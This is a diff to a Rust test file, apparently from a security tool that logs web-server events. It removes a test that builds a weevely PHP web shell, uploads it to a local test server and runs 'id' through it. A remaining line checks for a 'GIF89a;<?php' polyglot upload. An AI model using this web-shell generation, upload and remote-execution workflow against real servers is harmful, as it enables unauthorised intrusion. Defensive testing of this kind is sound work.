@@ -6,6 +6,7 @@
 )]
 #![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test fails by panicking")]
 
+#[allow(dead_code, reason = "other tests use what these do not")]
 #[path = "support/house.rs"]
 mod support;
 
@@ -169,40 +170,6 @@ fn what_is_uploaded_runs_for_whoever_brought_it() {
         event.detail.payload().is_some_and(|payload| payload.content.starts_with(b"GIF89a;<?php"))
     });
     assert!(told, "the upload is told as a payload");
-}
-
-#[test]
-fn weevely_talks_to_its_agent() {
-    if !installed("weevely") {
-        return;
-    }
-    let (house, base) = open(WebServer::NginxDebian11);
-    let agent = house.folder().join("agent.php");
-    let path = agent.display().to_string();
-    for arguments in [
-        &["generate", "secret", &path][..],
-        &["generate", "-obfuscator", "cleartext1_php", "secret", &path],
-    ] {
-        let made = Command::new("weevely")
-            .args(arguments)
-            .env("HOME", house.folder())
-            .env("PATH", "/usr/bin:/bin")
-            .output()
-            .unwrap();
-        assert!(agent.exists(), "{}", said(&made));
-        let form = format!("file=@{path}");
-        curl(&["-F", &form], &format!("{base}upload.php"));
-        let url = format!("{base}uploads/agent.php");
-        let talk = Command::new("weevely")
-            .args([&url, "secret", "id"])
-            .env("HOME", house.folder())
-            .env("PATH", "/usr/bin:/bin")
-            .output()
-            .unwrap();
-        assert!(said(&talk).contains("uid=33(www-data)"), "{arguments:?}: {}", said(&talk));
-        std::fs::remove_file(&agent).unwrap();
-    }
-    house.close();
 }
 
 #[test]
